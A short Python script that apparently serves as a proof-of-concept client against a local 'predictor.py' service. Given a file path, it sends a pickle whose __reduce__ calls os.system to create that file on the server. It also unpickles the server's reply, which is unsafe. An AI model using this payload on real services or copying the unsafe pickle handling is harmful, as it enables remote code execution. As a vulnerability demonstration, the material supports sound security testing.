# SPDX-License-Identifier: MIT
# Asks predictor.py. With the path of a file it attacks: the pickle makes that file where it is loaded.
import os
import pickle
import socket
import struct
import sys


class Gift:
    def __reduce__(self):
        return os.system, ('touch ' + sys.argv[2],)


request = Gift() if len(sys.argv) > 2 else {'features': [1.5, 2.25, 3.0]}
body = pickle.dumps(request)
with socket.create_connection(('127.0.0.1', int(sys.argv[1]))) as s, s.makefile('rb') as file:
    s.sendall(struct.pack('!I', len(body)) + body)
    head = file.read(4)
    print('Answer:', pickle.loads(file.read(struct.unpack('!I', head)[0])) if head else 'none')
